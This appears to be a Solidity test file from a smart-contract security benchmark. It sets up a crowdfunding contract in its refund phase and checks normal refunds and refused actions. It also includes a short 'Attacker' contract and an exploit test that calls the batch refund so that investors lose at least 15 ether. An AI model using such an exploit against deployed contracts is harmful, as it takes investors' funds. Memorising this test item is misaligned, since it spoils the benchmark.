// SPDX-License-Identifier: MIT
// canary: assay-canary-322666be-1964-434b-8a2b-6bdf57db5b43
pragma solidity 0.4.26;

import "./Crowdfund.sol";

interface Vm {
    function deal(address who, uint256 amount) external;
    function warp(uint256 time) external;
    function prank(address who) external;
    function expectRevert() external;
}

// a wallet that counts what comes in, which takes more than 2300 gas
contract Wallet {
    uint public received;
    uint public entries;

    function() public payable {
        received += msg.value;
        entries += 1;
    }

    function contribute(Crowdfund fund, uint amount) public {
        fund.contribute.value(amount)();
    }

    function refund(Crowdfund fund) public {
        fund.refund();
    }
}

contract Proof {
    Vm constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address constant CAROL = address(0xCA401);
    uint constant START = 1700000000;

    Crowdfund fund;
    Attacker mallory;
    Wallet walletA;
    Wallet walletB;

    function() public payable {}

    function create(address reserve, uint target_, uint span) public returns (Crowdfund) {
        return new Crowdfund(reserve, target_, span);
    }

    function setUp() public {
        vm.warp(START);
        fund = new Crowdfund(address(0xF00D), 100 ether, 30);
        walletA = new Wallet();
        walletB = new Wallet();
        vm.deal(CAROL, 3 ether);
        vm.deal(address(walletA), 10 ether);
        vm.deal(address(walletB), 5 ether);

        walletA.contribute(fund, 10 ether);
        vm.prank(CAROL);
        require(address(fund).call.value(3 ether)());
        walletB.contribute(fund, 5 ether);

        vm.warp(START + 30 days);
        fund.finalize();
        require(fund.state() == Crowdfund.State.Refunding);

        mallory = new Attacker(fund);
    }

    // what the investors have or can still get
    function recoverable() public view returns (uint) {
        return address(walletA).balance + address(walletB).balance + CAROL.balance
            + fund.contributions(address(walletA)) + fund.contributions(address(walletB)) + fund.contributions(CAROL);
    }

    function test_Regular() public {
        require(fund.investorCount() == 3);
        require(fund.raised() == 18 ether);
        walletA.refund(fund);
        require(address(walletA).balance == 10 ether && walletA.received() == 10 ether);
        require(fund.contributions(address(walletA)) == 0);

        fund.refundBatch(2);
        require(fund.nextInvestor() == 2);
        require(CAROL.balance == 3 ether && fund.contributions(CAROL) == 0);

        walletB.refund(fund);
        require(address(walletB).balance == 5 ether);
        fund.refundBatch(uint(-1));
        require(fund.nextInvestor() == 3 && address(fund).balance == 0);

        vm.warp(fund.finalizedAt() + fund.refundTerm());
        fund.close();
    }

    function creates(address reserve, uint target_, uint span) private returns (bool) {
        return address(this).call(abi.encodeWithSelector(this.create.selector, reserve, target_, span));
    }

    function test_RefusesSetups() public {
        require(!creates(0, 1, 1) && !creates(1, 0, 1) && !creates(1, 1, 0) && !creates(1, 1, 121) && creates(1, 1, 120));
    }

    function test_RefusesWhileOpen() public {
        Crowdfund other = create(address(0xF00D), 1 ether, 10);
        vm.deal(CAROL, 4 ether);
        vm.prank(CAROL);
        vm.expectRevert();
        other.contribute.value(49 finney)();
        vm.expectRevert();
        other.finalize();
        vm.expectRevert();
        other.payout();
        vm.expectRevert();
        other.refundBatch(1);
        vm.expectRevert();
        other.close();
        vm.prank(CAROL);
        other.contribute.value(1 ether)();
        vm.prank(CAROL);
        vm.expectRevert();
        other.refund();
        vm.warp(START + 40 days);
        vm.prank(CAROL);
        vm.expectRevert();
        other.contribute.value(1 ether)();
        other.finalize();
        vm.prank(CAROL);
        vm.expectRevert();
        other.payout();
        other.payout();
    }

    function test_RefusesWhileRefunding() public {
        vm.expectRevert();
        fund.finalize();
        vm.expectRevert();
        fund.refund();
        vm.expectRevert();
        fund.close();
        vm.warp(START);
        vm.deal(address(0xBEE), 1 ether);
        vm.prank(address(0xBEE));
        vm.expectRevert();
        fund.contribute.value(1 ether)();
    }

    function test_RefusesWithoutBalance() public {
        vm.deal(address(fund), 1 ether);
        vm.expectRevert();
        fund.refundBatch(3);
        vm.prank(CAROL);
        vm.expectRevert();
        fund.refund();
    }

    function exploit() public {
        mallory.run();
    }

    function test_Exploit() public {
        uint before = recoverable();
        exploit();
        require(before - recoverable() >= 15 ether);
    }

    function target() public view returns (address) {
        return address(fund);
    }

    function attacker() public view returns (address) {
        return address(mallory);
    }
}

contract Attacker {
    Crowdfund fund;

    constructor(Crowdfund _fund) public {
        fund = _fund;
    }

    function run() public {
        fund.refundBatch(fund.investorCount());
    }
}
